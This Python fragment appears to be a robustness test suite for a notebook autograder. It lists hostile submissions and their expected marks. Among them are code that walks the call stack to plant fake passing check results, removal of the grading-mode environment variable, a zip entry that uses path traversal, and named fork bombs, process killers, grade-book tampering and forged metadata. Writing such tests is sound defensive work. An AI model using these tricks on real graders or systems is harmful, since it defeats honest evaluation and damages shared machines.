        "q5": "import json, pathlib\nprint(pathlib.Path('.probe/q5.json').read_text() if pathlib.Path('.probe').is_dir() else '')\n"
              "def active_rate(*given):\n    for frame in __import__('inspect').stack():\n"
              "        for value in frame.frame.f_locals.values():\n            if type(value) is list and len(value) == 6:\n"
              "                value.append({'value': 1.0, 'expected': 1.0})\n    return 55.5"}),
    Hostile("memory-of-calls", "answers differently each time and remembers its calls", ALL_BUT_Q5, cells={
        "q5": "calls = []\ndef active_rate(*given):\n    calls.append(given)\n    given[0].drop(given[0].index, inplace=True)\n"
              "    return 1000.0 + len(calls)"}, core=False),
    Hostile("function-exits", "raises SystemExit in the function", ALL_BUT_Q5, cells={
        "q5": NEVER + "    raise SystemExit(0)"}, core=False),
    Hostile("function-dies", "ends the process in the function", ALL_BUT_Q5, cells={
        "q5": NEVER + "    import os; os._exit(0)"}, core=False),
    Hostile("function-never-ends", "never returns from the function", ALL_BUT_Q5, cells={
        "q5": NEVER + "    while True:\n        pass"}),
    # looking around
    Hostile("reader", "reads the course: key, ledger, grade book, others' work, checks, release", NOTHING, "blank",
            first=(READER,)),
    Hostile("proc", "reads other processes, their files and their memory", NOTHING, "blank", first=(PROC,)),
    Hostile("solution", "runs the solutions of the source folder", NOTHING, "blank", first=(SOLUTION,), core=False),
    Hostile("others", "lists and reads the work of others", NOTHING, "blank", first=(OTHERS,), core=False),
    Hostile("grade-book", "writes marks into the grade book and the ledger", NOTHING, "blank", first=(GRADE_BOOK,)),
    Hostile("startup", "leaves code where later kernels would run it", MOST, first=(STARTUP,), core=False),
    Hostile("packages", "writes into packages, vsim, the course and the system", MOST, first=(PACKAGES,)),
    Hostile("inputs", "writes into the inputs, removes and replaces them", MOST, first=(INPUTS,)),
    Hostile("unit-card", "writes another unit.json before the set-up", MOST,
            first=('%%writefile unit.json\n{"format": 1, "kind": "unit", "id": "x", "tasks": []}',), stock=False),
    Hostile("other-seed", "opens the unit with the card and the seed of another learner", (3.0, 3.0, 4.0, 0.0, 0.0),
            first=(OTHER_SEED,), stock=False),
    Hostile("fake-modules", "writes vsim.py and pandas.py beside the notebook and imports those", NOTHING, "blank",
            first=(FAKES,)),
    Hostile("mode", "takes away the sign that this is marking", NOTHING,
            first=("import os\nos.environ.pop('NBGRADER_EXECUTION', None)\nos.environ['NBGRADER_VALIDATING'] = '1'",),
            stock=False),
    Hostile("transformer", "replaces the source of check cells as they run", NOTHING, "blank", first=(TRANSFORMER,)),
    Hostile("patched", "replaces abs, round, sum and isfinite", NOTHING, "blank", first=(PATCHED,), core=False),
    # ends and endless things
    Hostile("exits", "sys.exit in a cell", MOST, cells={"q2": "@q2@\nimport sys\nsys.exit(0)"}, core=False),
    Hostile("quits", "quit() in the cell of the third task", (3.0, 3.0, 0.0, 0.0, 0.0), cells={"q3": "@q3@\nquit()\nimport time; time.sleep(0.5)"}),
    Hostile("killer", "kills its parent, the first process and everybody", MOST, first=(KILLER,), core=False),
    Hostile("loop", "an endless loop in the second task", ALL_BUT_Q2, cells={"q2": LOOP}, core=False),
    Hostile("stuck", "an endless loop that swallows every interrupt", (3.0, 0.0, 0.0, 0.0, 0.0), cells={"q2": STUCK}, core=False),
    Hostile("orphans", "hundreds of processes that outlive it", MOST, last=(FORKS,)),
    Hostile("fork-bomb", "forks without end", MOST, last=(BOMB,)),
    Hostile("endless-print", "prints without end", MOST, last=("while True:\n    print('x' * 100)",), core=False),
    Hostile("one-line", "prints one line of 60 MB", MOST, cells={"q1": "@q1@\nprint('x' * 60_000_000)"}, core=False),
    Hostile("memory", "takes 6 GB of memory", MOST, cells={"q1": "@q1@\nhoard = bytearray(6_000_000_000)"}, core=False),
    Hostile("disk", "fills the disk", MOST, first=(DISK,), core=False),
    Hostile("network", "calls other machines", MOST, first=(NETWORK,), core=False),
    Hostile("traceback", "a traceback of 50,000 lines", MOST, cells={
        "q1": "@q1@\nraise ValueError('\\n'.join(f'line {n}' for n in range(50_000)))"}, core=False),
    Hostile("comms", "floods of comms, payloads and next inputs", MOST, first=(COMMS,), core=False),
    Hostile("warnings", "right answers that warn on stderr", MOST, cells={
        name: f"@{name}@\nimport warnings, sys; warnings.warn('beware'); print('oh', file=sys.stderr)" for name in ("q1", "q2")}
        | {"q5": "@q5@\n_rate = active_rate\ndef active_rate(*given):\n    print('oh', file=__import__('sys').stderr)\n    return _rate(*given)"}, core=False),
    # the notebook
    Hostile("doubled", "answers and checks twice, as one copies cells in JupyterLab", MOST, change=_doubled,
            flags=frozenset({"copied-locked", "duplicate"})),
    Hostile("deleted", "checks deleted", MOST, change=_without("q1-check", "q5-check", "setup"), flags=frozenset({"missing"})),
    Hostile("reversed", "cells in the opposite order", MOST, change=lambda notebook, setting: notebook["cells"].reverse(),
            flags=frozenset({"order"}), core=False),
    Hostile("locked", "checks rewritten, 100 points each, everything unlocked", NOTHING, "blank", change=_locked,
            flags=frozenset({"locked-edited"})),
    Hostile("schema-1", "labels of schema 1", MOST, change=_labels(schema_version=1), core=False),
    Hostile("schema-9", "labels of schema 9", MOST, change=_labels(schema_version=9), core=False),
    Hostile("format-3", "a notebook of format 3", MOST, change=_format_3, flags=frozenset({"old-format"})),
    Hostile("forged-notes", "forges checksum, time, flags, marks, kernel and outputs in the metadata", MOST,
            change=_forged_notes),
    Hostile("slow-words", "Markdown and HTML on which converters take for ever", MOST, change=_slow_words),
    Hostile("browser", "scripts, pictures and links in the written answer and in outputs", MOST, change=_text(WORDS),
            last=(OUTPUTS, f"%markdown\n{WORDS}", f"%raw\n{PAGE}")),
    # the file and the folder
    Hostile("gbk", "text in GBK", MOST, change=lambda notebook, setting: raw({**notebook, "cells": [
        *notebook["cells"], _own("%markdown\n志愿者注册登记，服务时间记录，志愿服务组织")]}, "gbk"), flags=frozenset({"encoding"}), core=False),
    Hostile("truncated", "half a file", NOTHING, drop=_bytes(lambda content: content[: len(content) // 2]),
            status="unreadable", flags=frozenset({"unreadable"}), core=False),
    Hostile("no-json", "a web page", NOTHING, drop=_bytes(lambda content: b"<!DOCTYPE html><html></html>"),
            status="unreadable", flags=frozenset({"unreadable"}), core=False),
    Hostile("card-beside", "the card of another learner beside the notebook", MOST, drop=_card_beside, stock=False),
    Hostile("modules-beside", "vsim.py, pandas.py, unit.json and data of its own beside the notebook", MOST,
            drop=_modules_beside, core=False),
    Hostile("link-beside", "links to the grade book and the sources, and a time of arrival in 1999", MOST, drop=_link_beside),
    Hostile("link", "the notebook is a link to the solutions", None, drop=_linked("source/{unit}/{unit}.ipynb"),
            status="fault"),
    Hostile("other-learner", "a loose file with the stolen ticket of another learner", None, change=_stolen_ticket,
            drop=_loose, status="set aside", stock=False),
    Hostile("false-ticket", "a loose file with a ticket that is made up", None, "blank",
            change=_claims(learner="honest-model", ticket="0" * 16), drop=_loose, status="unknown learner", stock=False),
    Hostile("other-unit", "says that it is of another unit", None, change=_claims(unit="foundation-02-other"),
            status="other unit", stock=False),
    Hostile("bomb", "a zip file that unpacks to 300 MB", None, drop=_in_zip(_bomb), status="fault", stock=False),
    Hostile("dots", "a zip file that unpacks above its folder", None, drop=_in_zip(
        lambda content: odd_member(f"../../../{LEFT}.ipynb", content)), status="fault", stock=False),
    Hostile("dots-and-good", "the same beside a notebook as it should be", MOST, drop=_in_zip(_stored), stock=False, core=False),
    Hostile("empty", "an empty file", None, drop=_bytes(lambda content: b""), status="fault"),
    Hostile("folder", "a folder in place of the notebook", None, drop=_folder_as_file, status="fault"),
    Hostile("pipe", "a pipe in place of the notebook", None, drop=_with_pipe, status="fault", stock=False),
    Hostile("two-files", "an untouched and a full notebook in one folder", MOST, drop=_two, stock=False,
            flags=frozenset({"several-files"})),
)

HONEST: tuple[Hostile, ...] = (
    Hostile("honest-model", "nothing: the model answer", MOST),
    Hostile("honest-partly", "nothing: partly right", (3.0, 1.0, 0.0, 0.0, 3.0), "blank", cells={
        "q1": "@q1@", "q2": "registered_per_100_residents = 100 * registered / residents", "q5": "@q5@",
        "reflection": "canary-work-of-another: two thirds of the register are asleep."}),
    Hostile("honest-blank", "nothing: not begun", NOTHING, "blank"),
)
